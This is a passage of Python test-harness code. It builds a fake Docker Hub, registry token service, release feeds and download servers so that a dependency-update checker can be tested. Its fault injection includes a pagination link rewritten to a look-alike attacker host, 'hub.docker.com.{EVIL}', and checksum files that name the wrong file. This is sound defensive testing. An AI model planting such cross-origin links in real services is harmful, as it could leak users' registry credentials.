                query = {"page": str(number), "page_size": str(size)}
                if name:
                    query["name"] = name
                return f"{where}?{urlencode(query)}"

            following = at(page + 1) if page < last else None
            if fault is not None and fault.kind is FaultKind.CROSS_ORIGIN_NEXT:
                following = at(2, base.replace("hub.docker.com", f"hub.docker.com.{EVIL}"))
            results = [self._hub_tag_json(image, t) for t in tags[(page - 1) * size: page * size]]
            return _json({"count": len(tags), "next": following,
                          "previous": at(page - 1) if page > 1 else None, "results": results})

        return respond

    def _hub_tag_json(self, image: HubRepo, tag: HubTag) -> dict[str, Any]:
        index, platforms = self._memoized(
            ("manifests", image.repository, tag.name), lambda: self._manifests(image, tag)
        )
        images = []
        for arch, body in platforms:
            architecture, _, variant = arch.partition("/")
            images.append({
                "architecture": architecture, "features": "", "variant": variant or None,
                "digest": "sha256:" + sha256(body), "os": "linux", "os_features": "",
                "os_version": None, "size": 28_000_000 + _num(arch + tag.name) % 9_000_000,
                "status": "active", "last_pulled": "2026-09-15T11:01:07.766773Z",
                "last_pushed": tag.pushed,
            })
        return {
            "creator": 1156886, "id": _num(f"{image.repository}:{tag.name}"), "images": images,
            "last_updated": tag.pushed, "last_updater": 1156886,
            "last_updater_username": "doijanky", "name": tag.name,
            "repository": _num(image.repository), "full_size": images[0]["size"], "v2": True,
            "tag_status": "active", "tag_last_pulled": "2026-09-15T11:22:47.149292Z",
            "tag_last_pushed": tag.pushed, "media_type": tag.media_type,
            "content_type": "image", "digest": "sha256:" + sha256(index),
        }

    @staticmethod
    def _manifests(image: HubRepo, tag: HubTag) -> tuple[bytes, list[tuple[str, bytes]]]:
        """The index body and each platform's manifest body of `image:tag`."""
        single = DOCKER_MANIFEST if tag.media_type == DOCKER_LIST else OCI_MANIFEST
        config = ("application/vnd.docker.container.image.v1+json" if single == DOCKER_MANIFEST
                  else "application/vnd.oci.image.config.v1+json")
        platforms: list[tuple[str, bytes]] = []
        for arch in tag.archs:
            label = f"{image.repository}:{tag.name}/{arch}"
            platforms.append((arch, _compact({
                "schemaVersion": 2, "mediaType": single,
                "config": {"mediaType": config, "digest": "sha256:" + _hexid(label + "/c", 64),
                           "size": 1471},
                "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                            "digest": "sha256:" + _hexid(label + "/l", 64),
                            "size": 28_000_000 + _num(label) % 9_000_000}],
            })))
        entries = []
        for arch, body in platforms:
            architecture, _, variant = arch.partition("/")
            platform = {"architecture": architecture, "os": "linux"}
            if variant:
                platform["variant"] = variant
            entries.append({"mediaType": single, "digest": "sha256:" + sha256(body),
                            "size": len(body), "platform": platform})
        return _compact({"schemaVersion": 2, "mediaType": tag.media_type,
                         "manifests": entries}), platforms

    def _manifest(self, image: HubRepo, tag: HubTag) -> Respond:
        def respond(request: _Request, _fault: Fault | None) -> Reply:
            if request.headers.get("authorization") != f"Bearer {registry_token(image.repository)}":
                challenge = (f'Bearer realm="{AUTH_REALM}",service="registry.docker.io",'
                             f'scope="repository:{image.repository}:pull"')
                return _json({"errors": [{"code": "UNAUTHORIZED",
                                          "message": "authentication required",
                                          "detail": [{"Type": "repository", "Class": "",
                                                      "Name": image.repository,
                                                      "Action": "pull"}]}]},
                             status=401, etag=False, headers={"WWW-Authenticate": challenge})
            index, platforms = self._manifests(image, tag)
            if tag.media_type in request.headers.get("accept", ""):
                body, media_type = index, tag.media_type
            else:  # no index type accepted: one platform's manifest, with its own digest
                body = platforms[0][1]
                media_type = DOCKER_MANIFEST if tag.media_type == DOCKER_LIST else OCI_MANIFEST
            digest = "sha256:" + sha256(body)
            return Reply(body=body, headers={
                "Content-Type": media_type, "Docker-Content-Digest": digest,
                "Docker-Distribution-Api-Version": "registry/2.0", "ETag": f'"{digest}"',
                "RateLimit-Limit": "100;w=21600", "RateLimit-Remaining": "99;w=21600",
            })

        return respond

    def _add_token_endpoint(self) -> None:
        def scope_repository(request: _Request) -> str | None:
            scope = request.query.get("scope", "")
            kind, _, rest = scope.partition(":")
            repository = rest.rpartition(":")[0]
            return repository if kind == "repository" else None

        def component(request: _Request) -> str | None:
            return self._image_component.get(scope_repository(request) or "")

        def respond(request: _Request, _fault: Fault | None) -> Reply:
            repository = scope_repository(request)
            if request.query.get("service") != "registry.docker.io" or repository is None:
                return _json({"details": "invalid scope or service"}, status=400, etag=False)
            token = registry_token(repository)
            return _json({"token": token, "access_token": token, "expires_in": 300,
                          "issued_at": _TOKEN_ISSUED}, etag=False)

        self._add(AUTH_REALM, component, Role.TOKEN, respond)

    # Feeds

    def _add_node(self) -> None:
        def respond(_request: _Request, _fault: Fault | None) -> Reply:
            extra = [{"version": t, "date": "2026-09-15", "files": ["src"], "lts": "Krypton",
                      "security": False} for t in self._extra("node")]
            return _json([*extra, *node_index()],
                         headers={"Last-Modified": "Tue, 08 Sep 2026 18:00:00 GMT"})

        self._add("https://nodejs.org/dist/index.json", "node", Role.LISTING, respond)

    def _add_postgres(self) -> None:
        def respond(_request: _Request, _fault: Fault | None) -> Reply:
            extra = [{"current": False, "eolDate": "2029-11-08", "firstRelDate": "2024-09-26",
                      "latestMinor": "13", "major": t, "relDate": "2026-09-15",
                      "supported": True} for t in self._extra("postgresql")]
            return _json([*extra, *postgres_feed()])

        self._add("https://www.postgresql.org/versions.json", "postgresql", Role.LISTING, respond)
        for version in POSTGRES_FILES:
            base = f"https://ftp.postgresql.org/pub/source/v{version}/postgresql-{version}"
            for ext in ("tar.bz2", "tar.gz"):
                data = fake_bytes(f"{base}.{ext}")
                name = f"postgresql-{version}.{ext}"
                self._static(f"{base}.{ext}", "postgresql", Role.OTHER,
                             _file(data, "application/x-bzip2" if ext == "tar.bz2"
                                   else "application/x-gzip"))
                role = Role.CHECKSUM if ext == "tar.bz2" else Role.OTHER
                self._sums(f"{base}.{ext}.sha256", "postgresql", role, data, name)
                md5 = hashlib.md5(data, usedforsecurity=False).hexdigest()
                self._static(f"{base}.{ext}.md5", "postgresql", Role.OTHER,
                             _file(f"{md5}  {name}\n".encode(), "text/plain"))
                if ext == "tar.bz2":
                    self._sha256[("postgresql", version)] = sha256(data)

    def _sums(self, url: str, component: str, role: Role, data: bytes, name: str) -> None:
        """A sha256sum-format file for `data` named `name`; WRONG_FILE names another file."""
        right = _file(f"{sha256(data)}  {name}\n".encode(), "text/plain")
        wrong = _file(f"{sha256(data)}  {_wrong_name(name)}\n".encode(), "text/plain")
        self._static(url, component, role, right, wrong)

    # Websites and download servers

    def _add_kamailio_site(self) -> None:
        site = "https://www.kamailio.org/pub/kamailio"
        self._static(f"{site}/latest-stable-version-number", "kamailio", Role.OTHER,
                     _file(b"6.1.5\n", "text/plain"))
        kamailio = next(r for r in self.repos if r.component == "kamailio")
        for tag in kamailio.tags:
            if not all(p.isdigit() for p in tag.split(".")) or tag.count(".") != 2:
                continue
            url = f"{site}/{tag}/src/kamailio-{tag}_src.tar.gz"
            data = fake_bytes(url)
            self._static(url, "kamailio", Role.ARCHIVE, _file(data, "application/x-gzip"))
            self._sha256[("kamailio", tag)] = sha256(data)

    def _add_asterisk_downloads(self) -> None:
        top = "https://downloads.asterisk.org/pub/telephony/asterisk"
        newest: dict[str, str] = {}
        for version, _day, _time in asterisk_versions():
            url = f"{top}/releases/asterisk-{version}.tar.gz"
            data = fake_bytes(url)
            name = f"asterisk-{version}.tar.gz"
            self._static(url, "asterisk", Role.OTHER, _file(data, "application/x-gzip"))
            self._static(f"{url}.asc", "asterisk", Role.OTHER,
                         _file(f"-----BEGIN PGP SIGNATURE-----\n{_b64url(data[:48])}\n"
                               "-----END PGP SIGNATURE-----\n".encode(), "text/plain"))
            # The sums files are asterisk-<ver>.sha256, not asterisk-<ver>.tar.gz.sha256.
            self._sums(f"{top}/releases/asterisk-{version}.sha256", "asterisk", Role.CHECKSUM,
                       data, name)
            for algo in ("md5", "sha1"):
                hexdigest = hashlib.new(algo, data, usedforsecurity=False).hexdigest()
                self._static(f"{top}/releases/asterisk-{version}.{algo}", "asterisk", Role.OTHER,
                             _file(f"{hexdigest}  {name}\n".encode(), "text/plain"))
            self._sha256[("asterisk", version)] = sha256(data)
            major = version.split(".")[0]
            if "-rc" not in version and major not in newest:
                newest[major] = version
        for major, version in newest.items():
            # The -current files are symlinks: the sums file still names the versioned tarball.
            data = fake_bytes(f"{top}/releases/asterisk-{version}.tar.gz")
            self._static(f"{top}/asterisk-{major}-current.tar.gz", "asterisk", Role.OTHER,
                         _file(data, "application/x-gzip"))
            self._static(f"{top}/asterisk-{major}-current.sha256", "asterisk", Role.OTHER,
                         _file(f"{sha256(data)}  asterisk-{version}.tar.gz\n".encode(),
                               "text/plain"))

    def _add_redis_downloads(self) -> None:
        lines = ["Hashes of Redis releases, one per line, in the order they were published.",
                 "Format: hash <file> <algorithm> <digest> <url>", ""]
        lines += [f"hash redis-{old}.tar.gz sha1 {_hexid('redis-' + old)} "
                  f"http://download.redis.io/releases/redis-{old}.tar.gz"
                  for old in ("2.8.24", "3.0.7")]
        wrong_lines = list(lines)
        published = sorted(
            redis_versions(),
            key=lambda v: (v in {"7.4.11", "7.2.16", "8.10.2"}, v.startswith("8.10"), v),
        )
        for version in published:
            url = f"https://download.redis.io/releases/redis-{version}.tar.gz"
            data = fake_bytes(url)
            self._static(url, "redis", Role.OTHER, _file(data, "application/octet-stream"))
            line = (f"hash redis-{version}.tar.gz sha256 {sha256(data)} "
                    f"http://download.redis.io/releases/redis-{version}.tar.gz")
            lines.append(line)
            wrong_lines.append(line.replace(f"redis-{version}.tar.gz ",
                                            f"redis-{version}-1.tar.gz "))
            self._sha256[("redis", version)] = sha256(data)
        readme = "https://raw.githubusercontent.com/redis/redis-hashes/master/README"
        self._static(readme, "redis", Role.CHECKSUM,
                     _file(("\n".join(lines) + "\n").encode(), "text/plain; charset=utf-8"),
                     _file(("\n".join(wrong_lines) + "\n").encode(), "text/plain; charset=utf-8"))

    def _add_pgbouncer_site(self) -> None:
        for version, _day in pgbouncer_versions():
            url = f"https://www.pgbouncer.org/downloads/files/{version}/pgbouncer-{version}.tar.gz"
            data = fake_bytes(url)
            self._static(url, "pgbouncer", Role.OTHER, _file(data, "application/gzip"))
            self._sums(f"{url}.sha256", "pgbouncer", Role.CHECKSUM, data,
                       f"pgbouncer-{version}.tar.gz")
            self._sha256[("pgbouncer", version)] = sha256(data)


def _asset_version(component: str, tag: str, name: str) -> str | None:
    """The version whose pinned archive is the asset `name` (caddy, squid), else None."""
    if component == "caddy" and name == f"caddy_{tag[1:]}_linux_amd64.tar.gz":
        return tag[1:]
    if component == "squid":
        version = tag.removeprefix("SQUID_").replace("_", ".")
        if name == f"squid-{version}.tar.xz":
            return version
    return None


def _gh_headers(request: _Request) -> dict[str, str]:
    authed = "authorization" in request.headers
    limit = 5000 if authed else 60
    return {
        "Cache-Control": f"{'private' if authed else 'public'}, max-age=60, s-maxage=60",
        "Vary": "Accept, Authorization, Cookie, X-GitHub-OTP, Accept-Encoding",
        "X-GitHub-Media-Type": "github.v3; format=json",
        "X-GitHub-Api-Version-Selected": "2022-11-28",
        "x-ratelimit-limit": str(limit), "x-ratelimit-remaining": str(limit - 1),
        "x-ratelimit-reset": _RATELIMIT_RESET, "x-ratelimit-used": "1",
        "x-ratelimit-resource": "core",
    }


def registry_token(repository: str) -> str:
    """The (fake, deterministic) JWT auth.docker.io issues for pulling `repository`."""
    head = _b64url(b'{"alg":"RS256","typ":"JWT","kid":"FAKE:WORLD"}')
    claims = _b64url(_compact({
        "iss": "auth.docker.io", "sub": "", "aud": "registry.docker.io", "iat": 1789552800,
        "exp": 1789553100,
        "access": [{"type": "repository", "name": repository, "actions": ["pull"]}],
    }))
    return f"{head}.{claims}.{_b64url(hashlib.sha256(repository.encode()).digest())}"


# --- running a check against the world ------------------------------------------------------------


@contextlib.contextmanager
def serve_world(
    overrides: Mapping[str, Override] | None = None,
) -> Iterator[tuple[UpstreamServer, FakeWorld]]:
    """A started server playing the world (stopped on exit)."""
    with UpstreamServer() as server:
        yield server, FakeWorld(overrides).install(server)


async def _no_sleep(_seconds: float) -> None:
    return None


@contextlib.asynccontextmanager
async def world_fetcher(
    server_url: str,
    *,
    settings: FetchSettings | None = None,
    record_dir: Path | None = None,
) -> AsyncIterator[HttpFetcher]:
    """The project's fetcher over a real client routed to the world (no waiting on retries)."""
    async with routed_client(server_url, record_dir=record_dir) as client:
        yield HttpFetcher(client, settings=settings, sleep=_no_sleep, jitter=lambda: 0.0)


def record_check(manifest: Manifest, directory: Path) -> Outcome:
    """Serve the world, run `run_check(resolve=True)` (with advisories and end of life, as
    `check` and `refresh` ask them) recording into `directory`.

    The recording holds the real upstream URLs; `directory` should not exist or be empty.
    """

    async def main(server_url: str, scratch: Path) -> Outcome:
        async with world_fetcher(server_url, record_dir=directory) as fetcher:
            # As refresh resolves: signed archives checked, against the world's key.
            return await run_check(world_signed(manifest), fetcher, today=TODAY, resolve=True,
                                   advisories=True, end_of_life=True,
                                   resolver=signed_resolver(scratch))

    with serve_world() as (server, _world), tempfile.TemporaryDirectory() as scratch:
        return asyncio.run(main(server.url, Path(scratch)))
